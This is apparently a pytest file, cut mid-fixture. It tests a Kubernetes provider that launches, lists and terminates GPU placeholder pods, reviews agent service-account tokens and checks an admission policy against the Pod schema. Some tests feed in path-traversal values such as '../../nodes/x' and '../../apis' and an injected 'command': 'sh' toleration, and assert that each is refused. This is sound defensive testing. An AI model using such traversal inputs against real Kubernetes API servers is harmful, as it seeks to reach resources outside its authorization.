    monkeypatch.setattr(k8s_api, "SERVICE_ACCOUNT_DIR", account)
    monkeypatch.setenv("KUBERNETES_SERVICE_HOST", "127.0.0.1")
    monkeypatch.setenv("KUBERNETES_SERVICE_PORT", str(server.port))
    settings.K8S_API_URL = ""
    settings.K8S_PLACEHOLDER_NAMESPACE = ""
    settings.K8S_PLACEHOLDER_IMAGE = "registry.example.com/pause:3.10"
    yield server
    server.stop()


def test_launch_creates_one_placeholder_per_machine_with_the_service_account_token(api_server):
    provider = get_provider("kubernetes")
    results = provider.launch(POOL, [_spec(), _spec("9a1b2c3d-0000-4000-8000-000000000002", zone="us-east-1a")])

    assert [r.provider_id for r in results] == [f"inferplane-capacity-{LAUNCH_ID}",
                                                "inferplane-capacity-9a1b2c3d-0000-4000-8000-000000000002"]
    assert [r.error for r in results] == ["", ""] and results[1].zone == "us-east-1a"
    assert set(api_server.pods) == {r.provider_id for r in results}
    assert api_server.pods[results[0].provider_id]["metadata"]["namespace"] == "inferplane"  # the account's own
    assert api_server.pods[results[0].provider_id]["spec"]["containers"][0]["image"] == "registry.example.com/pause:3.10"
    assert {auth for _, _, auth in api_server.requests} == {f"Bearer {SA_TOKEN}"}


def test_launching_the_same_launch_id_again_answers_with_the_existing_placeholder(api_server):
    provider = get_provider("kubernetes")
    [first] = provider.launch(POOL, [_spec()])
    [again] = provider.launch(POOL, [_spec()])

    assert again == first and len(api_server.pods) == 1
    assert [method for method, _, _ in api_server.requests] == ["POST", "POST", "GET"]  # 409, then read it


def test_list_reports_the_node_a_placeholder_was_scheduled_on(api_server):
    provider = get_provider("kubernetes")
    [scheduled, waiting] = provider.launch(POOL, [_spec(), _spec("9a1b2c3d-0000-4000-8000-000000000003")])
    pod = api_server.pods[scheduled.provider_id]
    pod["spec"]["nodeName"], pod["status"]["phase"] = "ip-10-0-3-17.ec2.internal", "Running"
    other_pool = PoolSpec(id=9, name="other", gpu_type="a10g-24gb", gpus_per_node=1, gpu_memory_mb=1, template={})
    provider.launch(other_pool, [_spec("9a1b2c3d-0000-4000-8000-000000000004")])

    machines = sorted(provider.list(POOL), key=lambda machine: machine.launch_id)
    assert [(m.provider_id, m.launch_id, m.state, m.node_name, m.fleet_marked) for m in machines] == [
        (scheduled.provider_id, LAUNCH_ID, "running", "ip-10-0-3-17.ec2.internal", True),
        (waiting.provider_id, "9a1b2c3d-0000-4000-8000-000000000003", "pending", "", True),
    ]
    del pod["metadata"]["labels"]["inferplane.dev/fleet"]  # a placeholder made before the fleet label, or another's
    assert [m.fleet_marked for m in sorted(provider.list(POOL), key=lambda m: m.launch_id)] == [False, True]
    # another installation's, in the same namespace under the same fleet id and pool id (before: marked, and swept)
    another = "9a1b2c3d-0000-4000-8000-000000000005"
    provider.launch(dataclasses.replace(POOL, installation_id="0f0e0d0c-0000-4000-8000-00000000000a"), [_spec(another)])
    api_server.pods[waiting.provider_id]["metadata"]["labels"].pop("inferplane.dev/installation")  # made before it
    assert {m.launch_id: m.fleet_marked for m in provider.list(POOL)} == {
        LAUNCH_ID: False, "9a1b2c3d-0000-4000-8000-000000000003": False, another: False}


AGENT_LABELS = {"app.kubernetes.io/component": "agent", "app.kubernetes.io/name": "inferplane",
                "app.kubernetes.io/part-of": "inferplane"}  # as the base kustomization labels the DaemonSet's pods


def _agent_pod(name: str, node_name: str, ip: str, labels: dict | None = None, **metadata) -> dict:
    """A pod of the agent DaemonSet as the API server lists it (infra/k8s/base/agent-daemonset.yaml)."""
    return {"metadata": {"name": name, "namespace": "inferplane", "labels": AGENT_LABELS if labels is None else labels,
                         "uid": str(uuid.uuid4()), **metadata},
            "spec": {"nodeName": node_name, "serviceAccountName": "inferplane-agent"}, "status": {"phase": "Running", "podIP": ip, "podIPs": [{"ip": ip}]}}


def test_list_reports_the_ip_of_the_agent_pod_on_a_placeholders_node_and_none_it_cannot_tell(api_server):
    """What `pools.link_joins` checks a node registered under the machine's name against: the agent pod's IP there."""
    provider = get_provider("kubernetes")
    [scheduled] = provider.launch(POOL, [_spec()])
    pod = api_server.pods[scheduled.provider_id]
    pod["spec"]["nodeName"], pod["status"]["phase"] = "ip-10-0-3-17.ec2.internal", "Running"
    api_server.pods["inferplane-agent-x7k2p"] = _agent_pod("inferplane-agent-x7k2p", "ip-10-0-3-17.ec2.internal",
                                                           "10.0.3.201")
    api_server.pods["inferplane-agent-q9v4m"] = _agent_pod("inferplane-agent-q9v4m", "ip-10-0-9-40.ec2.internal",
                                                           "10.0.9.77")  # another node's agent
    api_server.pods["inferplane-agent-old"] = _agent_pod("inferplane-agent-old", "ip-10-0-3-17.ec2.internal",
                                                         "10.0.3.15", deletionTimestamp="2026-12-06T00:00:00Z")
    evicted = _agent_pod("inferplane-agent-ev1ct", "ip-10-0-3-17.ec2.internal", "10.0.3.16")
    evicted["status"] |= {"phase": "Failed", "reason": "Evicted"}  # its IP given back, for the next pod to take
    api_server.pods["inferplane-agent-ev1ct"] = evicted

    # Another vendor's node agent in the namespace (a monitoring DaemonSet's, on the host's network: the node's IP,
    # which the node's name spells): not ours, so no node registered at its IP is taken for the machine's agent.
    api_server.pods["monitoring-agent-4xk8d"] = _agent_pod(
        "monitoring-agent-4xk8d", "ip-10-0-3-17.ec2.internal", "10.0.3.17",
        labels={"app.kubernetes.io/component": "agent", "app.kubernetes.io/name": "monitoring"})

    [machine] = provider.list(POOL)
    assert (machine.node_name, machine.agent_hosts) == ("ip-10-0-3-17.ec2.internal", ("10.0.3.201",))

    del api_server.pods["inferplane-agent-x7k2p"]  # its agent pod not started yet: no agent there to link, not unknown
    [machine] = provider.list(POOL)
    assert machine.agent_hosts == ()


def test_a_list_whose_agent_pods_cannot_be_read_still_reports_its_machines(api_server, settings, tmp_path):
    """The agent pods are read in the worker's own namespace; refused there (a Role bound elsewhere), the machines are
    listed as before, linked by their node's name alone."""
    provider = get_provider("kubernetes")
    [scheduled] = provider.launch(POOL, [_spec()])
    pod = api_server.pods[scheduled.provider_id]
    pod["spec"]["nodeName"], pod["status"]["phase"] = "ip-10-0-3-17.ec2.internal", "Running"
    settings.K8S_PLACEHOLDER_NAMESPACE = "inferplane"
    (k8s_api.SERVICE_ACCOUNT_DIR / "namespace").write_text("elsewhere\n")  # 403 from the API server there
    api_server.pods["inferplane-agent-x7k2p"] = _agent_pod("inferplane-agent-x7k2p", "ip-10-0-3-17.ec2.internal",
                                                           "10.0.3.201")  # there, not to be read

    [machine] = provider.list(POOL)
    assert (machine.node_name, machine.state, machine.agent_hosts) == ("ip-10-0-3-17.ec2.internal", "running", None)


def test_a_fleet_id_that_is_no_label_value_labels_its_placeholders_with_its_label_form_and_lists_them_as_ours(
        api_server, settings):
    """Before, the id went on the pod as it is: the API server refused "acme:prod" as a label value (422), so no
    placeholder could be made under it (settings refused such an id at start-up instead). An id with nothing of a label
    value in it ("Ü") puts no fleet label on, and its placeholder is still its own (marked, so swept if stray)."""
    provider = get_provider("kubernetes")
    for fleet_id, label in (("acme:prod", "acme-prod"), ("Ü", None)):
        settings.FLEET_ID = fleet_id
        [result] = provider.launch(POOL, [_spec()])
        assert result.error == "" and api_server.pods[result.provider_id]["metadata"]["labels"].get(
            "inferplane.dev/fleet") == label
        assert [(m.launch_id, m.fleet_marked) for m in provider.list(POOL)] == [(LAUNCH_ID, True)]
        provider.terminate(POOL, result.provider_id)


def test_terminate_deletes_only_the_pools_own_placeholders_and_may_be_repeated(api_server):
    provider = get_provider("kubernetes")
    [result] = provider.launch(POOL, [_spec()])
    api_server.pods["someone-elses-pod"] = {"metadata": {"name": "someone-elses-pod", "labels": {"app": "db"}}, "spec": {}}

    with pytest.raises(ProviderError, match="not a placeholder of pool a10g"):
        provider.terminate(POOL, "someone-elses-pod")
    assert "someone-elses-pod" in api_server.pods
    with pytest.raises(ProviderError, match="not a placeholder pod name"):
        provider.terminate(POOL, "../../nodes/x")

    provider.terminate(POOL, result.provider_id)
    assert result.provider_id not in api_server.pods and provider.list(POOL) == []
    provider.terminate(POOL, result.provider_id)  # already gone: nothing happens


def test_an_api_server_that_refuses_is_a_clear_error(api_server, settings):
    settings.K8S_PLACEHOLDER_NAMESPACE = "kube-system"
    [result] = get_provider("kubernetes").launch(POOL, [_spec()])
    assert result.provider_id == ""
    assert result.error.startswith(f"Kubernetes refused to create pod inferplane-capacity-{LAUNCH_ID} (403): pods is forbidden")

    settings.K8S_PLACEHOLDER_NAMESPACE = "../../apis"
    with pytest.raises(ProviderError, match="not a Kubernetes namespace"):
        get_provider("kubernetes").launch(POOL, [_spec()])
    assert all("apis" not in path for _, path, _ in api_server.requests)


def test_a_create_the_api_server_may_have_done_is_never_answered_as_a_refusal(api_server):
    # A 5xx (a 504 from the API server's gateway) after the pod was created was a refusal: the launch failed and the
    # placeholder held its GPU node, unseen. Raised as no answer, it is sent again (409: the same pod) and tracked.
    api_server.time_out_creates = True
    with pytest.raises(ProviderUnreachable):
        get_provider("kubernetes").launch(POOL, [_spec()])
    api_server.time_out_creates = False
    [result] = get_provider("kubernetes").launch(POOL, [_spec()])
    assert result.provider_id == f"inferplane-capacity-{LAUNCH_ID}" and len(api_server.pods) == 1


def test_templates_are_checked_field_by_field():
    errors = get_provider("kubernetes").template_errors
    assert errors(TEMPLATE) == {}
    assert errors({"gpu_resource": "amd.com/gpu"}) == {}
    assert "template.node_selector" in errors({"node_selector": {"bad key!": "x"}})
    assert "template.node_selector" in errors({"node_selector": ["gpu"]})
    assert "template.tolerations" in errors({"tolerations": [{"key": "a", "operator": "Sometimes"}]})
    assert "template.tolerations" in errors({"tolerations": [{"key": "a", "command": "sh"}]})
    assert "template.gpu_resource" in errors({"gpu_resource": "GPU please"})
    # What the placeholder policy refuses is refused here, where the operator sees why: a node by name, and a
    # resource that is not an extended one (the pool's GPUs as memory, or as the node's hugepages).
    assert errors({"node_selector": {"kubernetes.io/hostname": "ip-10-0-3-17"}}) == {
        "template.node_selector": ["A pool's machines are not chosen by host name (kubernetes.io/hostname)."]}
    assert "template.gpu_resource" in errors({"gpu_resource": "memory"})
    assert "template.gpu_resource" in errors({"gpu_resource": "hugepages-2Mi"})
    assert "template.zones" in errors({"zones": "us-east-1a"})
    assert get_provider("kubernetes").zones(TEMPLATE) == ["us-east-1a", "us-east-1b"]
    assert get_provider("kubernetes").zones({}) == [""]


def _reviewed(monkeypatch, status) -> str:
    """`reviewed_agent_pod` of a token the API server's review answers `status` for (as the namespace `inferplane`)."""
    monkeypatch.setattr(kubernetes, "service_account_namespace", lambda: "inferplane")
    monkeypatch.setattr(kubernetes, "_api", lambda: type("Api", (), {"review_token": lambda self, token, audience: status})())
    return kubernetes.reviewed_agent_pod("eyJhbGciOiJSUzI1NiJ9.pod.sig", "ip-10-0-3-17.ec2.internal")


def test_a_token_review_binds_only_an_answer_naming_one_agent_pod_on_the_node_and_no_odd_shape_is_a_500(monkeypatch):
    """Every answer shape the review may take short of one agent pod on the registration's node (no `extra`, several
    values, an API server before 1.30 naming no node, no audiences, no user, values of another type) is a refusal
    naming why (`ProviderError`, a 401), never the uid of the wrong pod nor an exception the agent API answers 500."""
    account = "system:serviceaccount:inferplane:inferplane-agent"
    extra = {"authentication.kubernetes.io/pod-name": ["inferplane-agent-x7k2p"],
             "authentication.kubernetes.io/pod-uid": ["4f1e0c9a-uid"],
             "authentication.kubernetes.io/node-name": ["ip-10-0-3-17.ec2.internal"]}
    good = {"authenticated": True, "audiences": [kubernetes.AGENT_TOKEN_AUDIENCE],
            "user": {"username": account, "extra": extra}}
    assert _reviewed(monkeypatch, good) == "4f1e0c9a-uid"
    odd = {
        "no extra": good | {"user": {"username": account}},
        "extra not a map": good | {"user": {"username": account, "extra": ["x"]}},
        "two pods": good | {"user": {"username": account, "extra": extra | {
            "authentication.kubernetes.io/pod-uid": ["4f1e0c9a-uid", "other-uid"]}}},
        "no node (before 1.30)": good | {"user": {"username": account, "extra": {
            key: value for key, value in extra.items() if not key.endswith("node-name")}}},
        "a uid not a string": good | {"user": {"username": account, "extra": extra | {
            "authentication.kubernetes.io/pod-uid": [7]}}},
        "no audiences": {key: value for key, value in good.items() if key != "audiences"},
        "audiences not a list": good | {"audiences": kubernetes.AGENT_TOKEN_AUDIENCE},
        "no user": {key: value for key, value in good.items() if key != "user"},
        "user not a map": good | {"user": account},
        "authenticated as a string": good | {"authenticated": "true"},
        "refused with an error of another type": {"authenticated": False, "error": {"reason": "x"}},
    }
    for what, status in odd.items():
        with pytest.raises(ProviderError):
            _reviewed(monkeypatch, status)
            pytest.fail(f"bound a review with {what}")


def test_a_token_review_answered_with_a_body_that_is_no_object_is_an_error_not_a_500(monkeypatch):
    """An answer whose JSON is not an object (a proxy's, an API server's broken answer) is a `ProviderError`."""
    api = k8s_api.KubernetesApi("https://127.0.0.1:1", "t")
    for body in ([], "ok", None, 7):
        monkeypatch.setattr(api, "_call", lambda *args, body=body, **kwargs: httpx.Response(201, json=body))
        with pytest.raises(ProviderError):
            api.review_token("eyJhbGciOiJSUzI1NiJ9.pod.sig", kubernetes.AGENT_TOKEN_AUDIENCE)


def _pod_schema_misses(expression: str) -> list[str]:
    """The field selections of `expression` on the pod (`object.spec…`, `variables.pod…`, a container `c.…`) that the
    Pod's schema (kubernetes-validate's, the API server's OpenAPI) has no field for. NOTE: what cel-python cannot tell:
    the API server type-checks a policy against the resource's schema (a misspelt field fails there, and with it every
    placeholder), cel-python evaluates JSON, where a misspelt field is only absent: `!has(c.lifecyle)` passed here."""
    schemas = Path(kubernetes_validate.__file__).parent / "kubernetes-json-schema"
    version = max((folder for folder in schemas.iterdir() if folder.name.endswith("-local")),
                  key=lambda folder: tuple(int(part) for part in folder.name[1:].split("-")[0].split(".")))
    definitions = json.loads((version / "_definitions.json").read_text())["$defs"]
    roots = {"object": "io.k8s.api.core.v1.Pod", "oldObject": "io.k8s.api.core.v1.Pod",
             "variables.pod": "io.k8s.api.core.v1.Pod", "c": "io.k8s.api.core.v1.Container"}
    misses = []
    for first, chain in re.findall(r"(?<![\w.])(variables\.pod|object|oldObject|c)((?:\.[A-Za-z]\w*)+)", expression):
        definition = definitions[roots[first]]
        for name in chain.split(".")[1:]:
            fields = definition.get("properties", {})
            if name not in fields:
                if name not in ("all", "exists", "startsWith", "endsWith"):
                    misses.append(f"{first}{chain}")
                break
            field = fields[name]
            reference = field.get("$ref") or field.get("items", {}).get("$ref")
            if reference is None:
                break
            definition = definitions[reference.rsplit("/", 1)[-1]]
    return misses


def test_every_field_the_placeholder_policy_reads_is_a_field_of_the_pod():
    """A misspelt field in the policy would read as absent (`!has()` true) and admit what the rule means to refuse."""
    rendered = render("production-node-pools")
    policy = rendered.get("ValidatingAdmissionPolicy", POLICY)["spec"]
    expressions = [item["expression"] for item in policy["validations"] + policy.get("variables", [])]
    assert _pod_schema_misses("!has(c.lifecyle) && has(object.spec.containers) && c.image == ''") == ["c.lifecyle"]
    assert [miss for expression in expressions for miss in _pod_schema_misses(expression)] == []
